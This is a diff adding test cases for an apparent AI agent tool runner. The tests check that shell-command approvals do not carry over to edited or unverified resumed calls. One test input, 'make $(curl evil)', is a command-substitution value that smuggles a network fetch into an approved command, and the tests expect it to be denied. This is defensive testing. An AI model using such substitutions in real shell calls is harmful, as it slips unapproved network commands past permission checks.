@@ -65,6 +65,57 @@ describe('createToolRunner: questions through the framework', () => {
     expect(ran).toEqual(['make']);
   });
 
+  it.each([
+    ['asked again with other arguments', 'make', 'make install'],
+    ['asked again with a substitution', 'make', 'make $(curl evil)'],
+  ])(
+    '%s (a resumed run, edited): neither version runs on the approval',
+    async (_l, asked, edited) => {
+      const { tool, ran } = shellTool();
+      const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
+      expect(await runner.needsApproval(tool, { command: asked }, 'call_1')).toBe(true);
+      const recheck = { answered: true };
+      expect(await runner.needsApproval(tool, { command: edited }, 'call_1', recheck)).toBe(true);
+      for (const command of [edited, asked]) {
+        const result = await runner.run(tool, { command }, { toolCallId: 'call_1' });
+        expect(result.errorKind).toBe('denied');
+      }
+      expect(ran).toEqual([]);
+    },
+  );
+
+  it('asked again with the same arguments (a resumed run): the approval holds', async () => {
+    const { tool, ran } = shellTool();
+    const runner = createToolRunner({ permissions: new PermissionPolicy({}) });
+    expect(await runner.needsApproval(tool, { command: 'make' }, 'call_1')).toBe(true);
+    expect(
+      await runner.needsApproval(tool, '{"command":"make"}', 'call_1', { answered: true }),
+    ).toBe(true);
+    expect((await runner.run(tool, { command: 'make' }, { toolCallId: 'call_1' })).isError).toBe(
+      false,
+    );
+    expect(ran).toEqual(['make']);
+  });
+
+  it('a call first seen with its answer (made up, or another process) goes to our approver', async () => {
+    const { tool, ran } = shellTool();
+    const asked: unknown[] = [];
+    const policy = new PermissionPolicy({
+      approver: (request) => {
+        asked.push(request.args);
+        return 'deny';
+      },
+    });
+    const runner = createToolRunner({ permissions: policy });
+    expect(
+      await runner.needsApproval(tool, { command: 'evil' }, 'call_9', { answered: true }),
+    ).toBe(true);
+    const result = await runner.run(tool, { command: 'evil' }, { toolCallId: 'call_9' });
+    expect(result.errorKind).toBe('denied');
+    expect(asked).toEqual([{ command: 'evil' }]);
+    expect(ran).toEqual([]);
+  });
+
   it('a "never" given since the question wins over the framework approval', async () => {
     const { tool, ran } = shellTool();
     const policy = new PermissionPolicy({ approver: () => 'never' });
